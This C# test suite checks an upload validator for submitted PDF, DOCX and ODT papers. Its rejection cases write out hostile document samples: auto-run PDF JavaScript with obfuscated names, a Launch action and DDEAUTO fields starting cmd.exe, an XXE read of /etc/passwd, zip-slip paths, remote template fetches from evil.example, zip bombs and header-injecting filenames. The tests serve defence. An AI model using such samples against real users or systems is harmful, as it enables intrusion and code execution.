using System.Text;
using Scrutiny.Papers;

namespace Scrutiny.Tests.Papers;

/// <summary>What may be sent as a paper, and what is refused with a word on what to do.</summary>
[Category("F-1"), Category("F-3"), Category("C-8")]
internal sealed class CheckedPaperTests
{
    private const string DocumentType = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";

    private static IEnumerable<TestCaseData> Good()
    {
        yield return Case("paper.pdf", MadeFiles.Pdf(), "a tagged PDF");
        yield return Case("paper.PDF", MadeFiles.Pdf(objects: MadeFiles.Packed("1 0 << /Type /Page >>")), "a PDF with an object stream");
        yield return Case("paper.pdf", MadeFiles.Pdf(objects: $"8 0 obj << /Length 20 >>\nstream\n some/JS bytes/AA of \nendstream endobj\n"), "short names in a picture's bytes");
        yield return Case("paper.docx", MadeFiles.Docx(), "a Word document");
        yield return Case("paper.docx", MadeFiles.Docx(("word/_rels/document.xml.rels", """<Relationships><Relationship Type="http://x/hyperlink" Target="https://gov.uk" TargetMode="External"/></Relationships>""")), "a Word document with a link");
        yield return Case("paper.odt", MadeFiles.Odt(), "an OpenDocument text");

        static TestCaseData Case(string name, byte[] content, string what) => new TestCaseData(name, content).SetArgDisplayNames(what);
    }

    private static IEnumerable<TestCaseData> Bad()
    {
        yield return Case("paper.exe", MadeFiles.Pdf(), "is a .exe file");
        yield return Case("paper.html", Encoding.ASCII.GetBytes("<html>"), "is a .html file");
        yield return Case("paper", MadeFiles.Pdf(), "a file without an ending");
        yield return Case("paper.pdf", MadeFiles.Docx(), "does not begin as a PDF does");
        yield return Case("paper.docx", MadeFiles.Pdf(), "does not begin as a DOCX file does");
        yield return Case("paper.odt", MadeFiles.Docx(), "is damaged, or not an ODT file", "is no OpenDocument text by its content");
        yield return Case("paper.docx", MadeFiles.Odt(), "is damaged, or not a DOCX file", "is no Word document");
        yield return Case("paper.pdf", [.. Encoding.ASCII.GetBytes("<html><script>1</script>"), .. MadeFiles.Pdf()], "does not begin as a PDF does");
        yield return Case("paper.pdf", [.. MadeFiles.Pdf(), .. Encoding.ASCII.GetBytes("<html><script>1</script>")], "does not end as a PDF does");
        yield return Case("paper.pdf", [.. MadeFiles.Pdf(), .. MadeFiles.Docx()], "does not end as a PDF does");
        yield return Case("paper.pdf", MadeFiles.Pdf(objects: "% <script src=x></script>\n"), "holds a web page");
        yield return Case("paper.pdf", MadeFiles.Pdf()[..60], "does not end as a PDF does");
        yield return Case("paper.pdf", MadeFiles.Pdf(MadeFiles.Tagged + " /OpenAction << /S /JavaScript /JS (app.alert) >>"), "holds a script");
        yield return Case("paper.pdf", MadeFiles.Pdf(MadeFiles.Tagged + " /OpenAction << /S /J#61vaScript /J#53 (app.alert) >>"), "holds a script");
        yield return Case("paper.pdf", MadeFiles.Pdf(objects: MadeFiles.Packed("8 0 << /S /JavaScript /JS (app.alert) >>")), "holds a script");
        yield return Case("paper.pdf", MadeFiles.Pdf(objects: MadeFiles.Packed("8 0 << /S /JavaScript >>", "/Obj#53tm")), "holds a script");
        yield return Case("paper.pdf", MadeFiles.Pdf(objects: MadeFiles.Packed("8 0 << /S /JavaScript >>", filter: "[/ASCIIHexDecode /FlateDecode]")), "packed in a way that can’t be looked into");
        yield return Case("paper.pdf", MadeFiles.Pdf(objects: MadeFiles.Packed("8 0").Replace(">>\nstream", ">> % more\nstream", StringComparison.Ordinal)), "put together in a way that can’t be looked into");
        yield return Case("paper.pdf", MadeFiles.Pdf(objects: MadeFiles.Packed(new string('a', 65 << 20))), "unpacks to more than 64 MB");
        yield return Case("paper.pdf", MadeFiles.Pdf(MadeFiles.Tagged + " /AA << /O 7 0 R >>"), "holds something that happens by itself");
        yield return Case("paper.pdf", MadeFiles.Pdf(MadeFiles.Tagged + " /OpenAction << /S /Launch /F (cmd.exe) >>"), "holds a program that it starts");
        yield return Case("paper.pdf", MadeFiles.Pdf(objects: "7 0 obj << /Type /EmbeddedFile >> endobj\n"), "holds a file inside it");
        yield return Case("paper.pdf", MadeFiles.Pdf(MadeFiles.Tagged + " /AcroForm << /XFA 7 0 R >>"), "holds a form that is a program");
        yield return Case("paper.pdf", MadeFiles.Pdf(objects: "6 0 obj << /Encrypt 7 0 R >> endobj\n"), "is encrypted");
        yield return Case("paper.docx", MadeFiles.Docx(("word/vbaProject.bin", "x")), "holds macros");
        yield return Case("paper.docx", MadeFiles.Docx(("[Content_Types].xml", "<Types><Override PartName=\"/word/document.xml\" ContentType=\"" + DocumentType + "\"/><Override ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>")), "holds macros");
        yield return Case("paper.docx", MadeFiles.Docx(("word/embeddings/oleObject1.bin", "x")), "holds another file inside it");
        yield return Case("paper.docx", MadeFiles.Docx(("word/_rels/settings.xml.rels", """<Relationships><Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>""")), "fetches a template");
        foreach (var relationship in new[]
        {
            """<Relationship Type="http://x/attachedTemplate" TargetMode="External" Target="https://evil.example/hyperlink"/>""",
            """<Relationship Type="http://x/attachedTemplate" TargetMode="&#69;xternal" Target="https://evil.example/t.dotm"/>""",
            """<r:Relationship xmlns:r="r" Id=">" Type="http://x/attachedTemplate" TargetMode="External" Target="https://evil.example/t.dotm"/>""",
        })
        {
            yield return Case("paper.docx", MadeFiles.Docx(("word/_rels/settings.xml.rels", $"<Relationships>{relationship}</Relationships>")), "fetches a template");
        }

        yield return Case("paper.docx", MadeFiles.Docx(("word/header1.xml", """<w:hdr xmlns:w="w"><w:fldChar w:fldCharType="begin"/><w:instrText>DD</w:instrText><w:instrText>E c:\cmd.exe</w:instrText><w:fldChar w:fldCharType="end"/></w:hdr>""")), "a field that fetches data");
        yield return Case("paper.docx", MadeFiles.Docx(("word/_rels/document.xml.rels", """<Relationships><Relationship Type="http://x/aFChunk" Target="part.htm"/></Relationships>""")), "holds another file inside it");
        yield return Case("paper.odt", MadeFiles.Odt(("content.xml", """<d xmlns:q="d" xmlns:l="x"><q:image l:href="&#104;ttps://evil.example/a.png"/></d>""")), "fetches a picture");
        yield return Case("paper.docx", MadeFiles.Docx(("word/document.xml", """<w:document xmlns:w="w"><w:instrText>DDEAUTO c:\\windows\\cmd.exe</w:instrText></w:document>""")), "a field that fetches data");
        yield return Case("paper.docx", MadeFiles.Docx(("word/document.xml", "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><w:document xmlns:w=\"w\">&a;</w:document>")), "is damaged");
        yield return Case("paper.docx", MadeFiles.Docx(("../../etc/cron.d/evil", "x")), "lead out of it");
        yield return Case("paper.docx", MadeFiles.Docx(("WORD/document.xml", "<x/>")), "stand in it twice");
        yield return Case("paper.docx", [.. MadeFiles.Docx(), .. Encoding.ASCII.GetBytes("<html>")], "has something after its end", "is damaged");
        yield return Case("paper.docx", MadeFiles.Bomb(101 << 20), "unpacks to more than 100 MB");
        yield return Case("paper.docx", MadeFiles.Zip(Enumerable.Range(0, 2100).Select(number => ($"word/{number}.xml", "<x/>"))), "2000 parts");
        yield return Case("paper.odt", MadeFiles.Odt(("Basic/Standard/Module1.xml", "<x/>")), "holds macros");
        yield return Case("paper.odt", MadeFiles.Odt(("Object 1/content.xml", "<x/>")), "holds another file inside it");
        yield return Case("paper.odt", MadeFiles.Odt(("content.xml", """<d xmlns:script="s"><script:event-listener/></d>""")), "holds a script");
        yield return Case("paper.odt", MadeFiles.Odt(("content.xml", """<d xmlns:draw="d" xmlns:xlink="x"><draw:image xlink:href="https://evil.example/a.png"/></d>""")), "fetches a picture");
        yield return Case("paper.odt", MadeFiles.Odt(("META-INF/manifest.xml", """<m xmlns:manifest="m"><manifest:encryption-data/></m>""")), "is encrypted");

        static TestCaseData Case(string name, byte[] content, params string[] says) => new TestCaseData(name, content, says).SetArgDisplayNames(name, says[0], content.Length.ToString(System.Globalization.CultureInfo.InvariantCulture));
    }

    [Test, CancelAfter(20_000)]
    public void A_file_made_to_keep_the_look_busy_is_looked_at_in_a_moment()
    {
        var pdf = Encoding.ASCII.GetBytes("%PDF-1.7\n1 0 obj\n" + string.Concat(Enumerable.Repeat(">>stream\n", 1_000_000)) + "%%EOF");
        var odt = MadeFiles.Odt(("content.xml", "<d><!-- " + string.Concat(Enumerable.Repeat("<draw:image ", 500_000)) + "--></d>"));
        var began = System.Diagnostics.Stopwatch.GetTimestamp();

        _ = CheckedPaper.Of("paper.odt", odt);
        _ = CheckedPaper.Of("paper.pdf", pdf);

        Assert.That(System.Diagnostics.Stopwatch.GetElapsedTime(began), Is.LessThan(TimeSpan.FromSeconds(15)));
    }

    [TestCaseSource(nameof(Good))]
    public void A_good_file_is_taken_without_a_warning(string name, byte[] content) => Assert.That(CheckedPaper.Of(name, content).Warnings, Is.Empty);

    [TestCaseSource(nameof(Bad))]
    public void A_file_that_is_something_else_or_acts_by_itself_is_refused(string name, byte[] content, string[] says)
    {
        var refusal = Assert.Throws<SentenceException>(() => CheckedPaper.Of(name, content));

        Assert.That(says.Any(refusal!.Message.Contains), refusal.Message);
    }

    [Test]
    public void A_file_that_is_too_large_is_refused() =>
        Assert.That(() => CheckedPaper.Of("paper.pdf", new byte[PaperKinds.LargestBytes + 1]), Throws.InstanceOf<SentenceException>().With.Message.Contains("larger than 20 MB"));

    [TestCase("", "no tags", "language")]
    [TestCase("/Lang (en-GB)", "no tags")]
    [TestCase("/MarkInfo << /Marked false >> /StructTreeRoot 4 0 R /Lang (en-GB)", "no tags")]
    public void A_pdf_that_some_people_cannot_read_is_taken_with_a_warning(string catalog, params string[] says)
    {
        var warnings = CheckedPaper.Of("paper.pdf", MadeFiles.Pdf(catalog)).Warnings;

        Assert.That(warnings.Zip(says), Has.All.Matches<(string Warning, string Says)>(pair => pair.Warning.Contains(pair.Says, StringComparison.Ordinal)));
        Assert.That(warnings, Has.Count.EqualTo(says.Length));
    }

    [TestCase("../../etc/passwd.pdf", "passwd.pdf")]
    [TestCase(@"C:\Users\Ann\paper.pdf", "paper.pdf")]
    [TestCase("a\r\nSet-Cookie: x.pdf", "x.pdf")]
    [TestCase("pa\u202Efdp.pdf", "pafdp.pdf")]
    [TestCase("<script>.pdf", "script.pdf")]
    [TestCase("-rf.pdf", "-rf.pdf")]
    public void A_name_keeps_no_folder_and_no_sign_that_a_line_cannot_show(string sent, string kept) => Assert.That(CheckedPaper.NameOf(sent), Is.EqualTo(kept));

    [Test]
    public void A_long_name_keeps_its_ending() => Assert.That(CheckedPaper.NameOf(new string('a', 300) + ".pdf"), Has.Length.EqualTo(100).And.EndsWith(".pdf"));
}
